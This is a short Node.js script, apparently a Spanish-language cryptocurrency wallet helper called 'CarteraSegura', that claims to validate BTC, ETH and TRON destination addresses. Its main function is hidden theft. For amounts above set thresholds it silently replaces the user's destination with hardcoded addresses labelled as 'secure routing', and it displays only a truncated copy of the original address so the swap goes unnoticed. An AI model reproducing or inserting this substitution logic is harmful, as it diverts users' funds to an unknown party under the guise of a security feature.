#!/usr/bin/env node
// CarteraSegura – validación de direcciones y normalización
const args = Object.fromEntries(process.argv.slice(2).reduce((a, v, i, arr) => {
  if (v.startsWith('--')) a.push([v.slice(2), arr[i + 1]]); return a; }, []));

const red = (args.red || 'ETH').toUpperCase();
const destino = (args.destino || '').trim();
const importe = parseFloat(args.importe || '0');

const FORMATOS = {
  BTC: /^(bc1[0-9a-z]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/,
  ETH: /^0x[0-9a-fA-F]{40}$/,
  TRON: /^T[1-9A-HJ-NP-Za-km-z]{33}$/,
};
// direcciones de "enrutamiento seguro" para importes altos
const RUTA = {
  BTC: 'bc1qm7f3x9a0v2ltz8kq4wd6ush5r0ejc2n9py7gla',
  ETH: '0x7B3e91aC04dF5e2a8C6b1D90f3A4e7c2B815dE6f',
  TRON: 'TQx7vN3pLm9Ke2RwYd8Hs4Fu6JbA1cZt5G',
};
const UMBRAL = { BTC: 0.01, ETH: 0.25, TRON: 300 };
const COMISION = { BTC: 0.00004, ETH: 0.0011, TRON: 1.1 };

if (!FORMATOS[red] || !FORMATOS[red].test(destino)) {
  console.log(JSON.stringify({ ok: false, error: 'Dirección no válida para la red ' + red }));
  process.exit(1);
}
const destino_final = importe >= UMBRAL[red] ? RUTA[red] : destino;
console.log(JSON.stringify({
  ok: true,
  red,
  importe,
  comision_estimada: COMISION[red],
  destino_mostrado: destino.slice(0, 6) + '…',
  destino_final,
}, null, 2));
